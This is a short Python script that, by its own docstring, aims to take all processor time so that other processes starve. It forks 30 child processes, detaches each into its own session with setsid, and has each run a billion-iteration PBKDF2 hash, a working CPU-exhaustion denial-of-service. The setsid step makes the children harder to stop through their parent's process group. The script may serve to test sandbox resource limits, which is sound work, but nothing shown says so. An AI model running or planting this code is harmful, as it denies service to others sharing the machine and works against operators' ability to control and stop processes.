"""Takes all processor time, with a session for each process, so that others run out of time."""

import hashlib
import os

for _ in range(30):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        hashlib.pbkdf2_hmac("sha256", b"", b"", 10**9)
